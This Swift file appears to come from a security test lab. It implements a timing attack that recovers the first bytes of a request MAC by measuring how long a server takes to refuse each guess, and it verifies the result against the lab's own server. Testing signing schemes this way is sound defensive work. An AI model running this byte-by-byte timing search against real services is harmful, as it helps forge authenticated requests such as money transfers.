import CountersignWire

/// A comparison of MACs with `==` ends at the first different byte, and so its time reveals the MAC byte by
/// byte.
package struct MACTimingAttack: Attack {
    package let name: AttackName = "mac-timing"
    package let column = Column.tamper
    package let sentence =
        "Finds the first two bytes of the right MAC for a chosen request by the time that refusals take."

    /// Enough bytes to exclude luck: one guess in 65,536 is right.
    private static let wanted = 2

    /// For schemes whose requests carry a token: the server checks the MAC before it.
    private static let madeUp = CapturedToken(token: "b_" + String(repeating: "A", count: 43), userID: "1")

    package init() {}

    package func exemption(of row: RowProfile) -> String? {
        row.signsRequests ? nil : "the scheme has no MAC"
    }

    package func run(on stage: Stage) async throws -> AttackOutcome {
        let victim = try await stage.newVictim()
        let order = TransferOrder(payer: victim.name, payee: stage.thief, amount: 100)
        // The lab signs the request to know the MAC that is to be found; the attacker sees the request
        // without it.
        let signed =
            stage.attackKit.transfer(order, token: nil, key: stage.appKey)
            ?? stage.attackKit.transfer(order, token: MACTimingAttack.madeUp, key: stage.appKey)
        guard let signed, let place = MACLocation(in: signed)
        else { throw LabError("no request with a MAC could be made") }
        stage.note(
            .attacker,
            action:
                "sends the chosen request with one guess at its MAC after another, and measures how "
                + "long each refusal takes",
            showing: String(
                decoding: place.request(bearing: [UInt8](repeating: 0, count: place.mac.count)), as: UTF8.self
            ))
        let found = try await search(place, method: signed.method, on: stage)
        let told = Hex.encode(found.span)
        stage.note(.attacker, action: "takes the first bytes to be \(told)")
        guard found == Array(place.mac.prefix(MACTimingAttack.wanted)) else {
            return .failed(
                "the time of a refusal says nothing about the MAC: what it seemed to say, \(told), is wrong")
        }
        return .succeeded("the time of refusals gave away the first \(MACTimingAttack.wanted) bytes: \(told)")
    }

    /// Measures on one connection and one thread, so that the times are the server's.
    private func search(_ place: MACLocation, method: String, on stage: Stage) async throws -> [UInt8] {
        let client = try stage.network.serverClient()
        return try await DedicatedThread.run {
            let connection = try PersistentConnection(client)
            let first = try connection.send(
                place.request(bearing: [UInt8](repeating: 0, count: place.mac.count)), method: method)
            stage.note(.server, action: "refuses", showing: first.shown)
            let search = TimingSearch(length: place.mac.count) { guess throws(NetworkError) in
                let request = place.request(bearing: guess)
                let start = ContinuousClock.now
                _ = try connection.send(request, method: method)
                return ContinuousClock.now - start
            }
            let found = try search.first(MACTimingAttack.wanted)
            // The server must have compared the whole MAC: the right one gets another response, and a wrong
            // one still the same.
            let right = try connection.send(place.request(bearing: place.mac), method: method)
            let wrong = try connection.send(
                place.request(bearing: [UInt8](repeating: 0, count: place.mac.count)), method: method)
            guard !right.isSame(as: first) else {
                throw LabError("the server says the same to the right MAC: \(right.text)")
            }
            guard wrong.isSame(as: first), !right.isLimit,
                right.fields["countersign-refusal"] != "too-many-attempts",
                right.status != 503
            else {
                throw LabError(
                    "the server came to refuse something else than the MAC: \(right.text), \(wrong.text)")
            }
            return found
        }
    }
}

extension RawResponse {
    /// Whether it is the same refusal; what follows the code may differ.
    fileprivate func isSame(as other: RawResponse) -> Bool {
        // nginx shows an error page of its own, with the gateway's code in a field.
        status == other.status && text.prefix(40) == other.text.prefix(40)
            && fields["countersign-refusal"] == other.fields["countersign-refusal"]
    }
}

/// Finds the bytes of a secret from the front, by the time of each refusal: where the comparison ends at the
/// first different byte, the right byte takes longest.
struct TimingSearch {
    /// Bytes of the secret.
    let length: Int
    /// The time until the response to a guess.
    let time: ([UInt8]) throws(NetworkError) -> Duration

    /// The first `count` bytes by their times. The caller checks them: without a timing difference they are
    /// random.
    func first(_ count: Int) throws(NetworkError) -> [UInt8] {
        var known: [UInt8] = []
        while known.count < count { known.append(try slowestByte(after: known)) }
        return known
    }

    /// Noise only lengthens a time, so each candidate counts by its shortest. Each round measures fewer
    /// candidates again.
    private func slowestByte(after known: [UInt8]) throws(NetworkError) -> UInt8 {
        var shortest = [Duration](repeating: .seconds(60), count: 256)
        var candidates = Array(UInt8.min...UInt8.max).shuffled()
        for left in TimingSearch.rounds {
            for candidate in candidates {
                let guess = known + [candidate] + [UInt8](repeating: 0, count: length - known.count - 1)
                shortest[Int(candidate)] = min(shortest[Int(candidate)], try time(guess))
            }
            candidates.sort { shortest[Int($0)] > shortest[Int($1)] }
            candidates.removeLast(candidates.count - left)
        }
        return candidates[0]
    }

    /// The number of candidates that remain after each round.
    private static let rounds = [32, 8, 8, 1]
}
